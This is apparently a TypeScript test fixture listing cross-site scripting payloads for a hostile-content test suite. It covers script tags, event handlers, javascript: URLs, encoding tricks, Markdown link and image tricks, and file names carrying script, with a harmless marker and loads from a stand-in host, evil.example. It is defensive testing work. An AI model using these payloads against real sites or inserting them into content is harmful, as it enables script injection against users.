/**
 * Script-injection payloads for the hostile-content journeys (ship-hostile.spec.ts). Each one, if
 * the page ever ran it, would set `top.__pwned` (and open an alert), or make the page load
 * something from https://evil.example/ — which the test, the guard in fixtures.ts and the page's
 * Content-Security-Policy would each notice. They cover raw HTML, event handlers, URL schemes,
 * entity and encoding tricks, and every Markdown way to write a link or an image.
 */

/** What a payload runs when it gets to run. */
export const RUN = 'top.__pwned=1;alert(1)';
/** Where a payload loads from when it gets to load. */
export const EVIL = 'https://evil.example';

const base64Script = Buffer.from(`<script>${RUN}</script>`).toString('base64');
const svgOnload = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`;

export const payloads: readonly string[] = [
  // Raw HTML: script elements and event handlers.
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<script src="${EVIL}/x.js" async defer></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${EVIL}/pixel.png">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  // Frames, objects and navigation.
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<object data="${EVIL}/x.swf"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">click</a>`,
  `<form action="${EVIL}/"><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="${EVIL}/">`,
  `<link rel="stylesheet" href="${EVIL}/x.css">`,
  // Styles.
  `<div style="background:url(${EVIL}/bg.png)">x</div>`,
  `<div style="width: expression(${RUN})">x</div>`,
  `<style>@import url(${EVIL}/x.css); body { background: url(${EVIL}/b.png) }</style>`,
  // Entity, encoding and parser tricks.
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `<img src=x onerror=&#116;op.__pwned=1>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `</textarea><script>${RUN}</script>`,
  `<!--<script>${RUN}</script>-->`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<img src="data:image/svg+xml,${encodeURIComponent(svgOnload)}">`,
  `{{constructor.constructor("${RUN}")()}}`,
  '\u003cscript\u003etop.__pwned=1\u003c/script\u003e',
  // Markdown links.
  `[click](javascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](javascript&#58;${RUN})`,
  `[click](&#106;avascript:${RUN})`,
  `[click](data:text/html;base64,${base64Script})`,
  '[click](vbscript:msgbox(1))',
  `[click](<javascript:${RUN}>)`,
  `[click](${EVIL}/"onmouseover="${RUN})`,
  `[click](${EVIL}/link "title\\" onmouseover=\\"${RUN}")`,
  `[[nested](javascript:${RUN})](${EVIL}/)`,
  `[ref link][evil]\n\n[evil]: javascript:${RUN}`,
  // Markdown images.
  `![x](${EVIL}/md.png)`,
  '![x](//evil.example/protocol-relative.png)',
  `![x](javascript:${RUN})`,
  `![x" onerror="${RUN}](x.png)`,
  `![x](x.png" onerror="${RUN})`,
  `![svg](data:image/svg+xml;base64,${Buffer.from(svgOnload).toString('base64')})`,
  `![ref image][evilimg]\n\n[evilimg]: ${EVIL}/ref.png`,
  `[![nested image](${EVIL}/nested.png)](javascript:${RUN})`,
  // Autolinks, bare links and code.
  `<${EVIL}/autolink>`,
  `<javascript:${RUN}>`,
  `${EVIL}/bare-link www.evil.example`,
  `\`<script>${RUN}</script>\``,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
];

/** Payloads that make valid single file names (no `/`, no control characters). */
export const fileNamePayloads: readonly string[] = [
  `<img src=x onerror=${RUN}>.md`,
  `<svg onload=${RUN}>.txt`,
  `"><img src=x onerror=${RUN}>.md`,
  `javascript:${RUN}.md`,
  `[x](javascript:${RUN}).md`,
];

/** All the payloads as one Markdown document, each in its own paragraph. */
export function payloadDocument(): string {
  return `# Hostile\n\n${payloads.join('\n\n')}\n`;
}
